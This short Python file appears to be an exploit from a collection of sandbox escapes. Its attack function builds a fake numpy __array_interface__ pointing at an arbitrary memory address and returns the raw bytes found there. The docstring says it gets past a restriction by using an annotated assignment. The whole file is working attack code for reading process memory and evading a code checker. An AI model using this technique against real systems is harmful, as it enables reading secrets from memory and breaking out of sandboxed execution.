"""Class: memory. Source: own find. Escape: the same, by an annotated assignment."""

import numpy as np


class A:
    pass


def attack(model, tokenizer, address):
    a = A()
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    a.__array_interface__: dict = spec
    return np.array(a).tobytes()
